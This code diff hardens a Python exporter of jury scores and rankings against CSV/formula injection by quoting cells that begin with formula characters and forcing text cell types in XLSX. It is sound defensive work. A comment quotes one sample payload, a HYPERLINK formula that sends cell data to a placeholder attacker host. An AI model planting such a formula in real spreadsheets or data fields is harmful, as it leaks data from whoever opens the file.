@@ -1,5 +1,5 @@
-"""The jury's scores and ranking as files: CSV (Excel-friendly: BOM and semicolons) and XLSX (pure: rows in, bytes
-out)."""
+"""The jury's scores and ranking as files: CSV (Excel-friendly: BOM and semicolons) and XLSX, with no text a
+spreadsheet would run as a formula (pure: rows in, bytes out)."""
 import csv
 import io
 from collections.abc import Sequence
@@ -35,8 +35,21 @@ class RankingRow:
     spread: float | None
 
 
+# A cell starting with one of these is a formula to Excel or LibreOffice (OWASP, "CSV injection"): a badge named
+# '=HYPERLINK("http://evil.example/?leak="&A2;"…")' would run on the organiser's computer.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralised(value):
+    """A text a spreadsheet would read as a formula, made inert with a leading quote; any other value (numbers,
+    negative ones included) as it is."""
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        return "'" + value
+    return value
+
+
 def _table(headers: Sequence[str], rows: Sequence) -> list[list]:
-    return [list(headers)] + [list(astuple(row)) for row in rows]
+    return [[neutralised(value) for value in line] for line in [list(headers)] + [astuple(row) for row in rows]]
 
 
 def _cell(value, yes: str, no: str):
@@ -68,6 +81,9 @@ def to_xlsx(sheets: Sequence[tuple[str, Sequence[str], Sequence]]) -> bytes:
         sheet = book.create_sheet(title[:31])
         for line in _table(headers, rows):
             sheet.append(line)
+            for cell in sheet[sheet.max_row]:
+                if isinstance(cell.value, str):
+                    cell.data_type = "s"  # a text, never a formula, whatever it starts with
         for cell in sheet[1]:
             cell.font = Font(bold=True)
         sheet.freeze_panes = "A2"
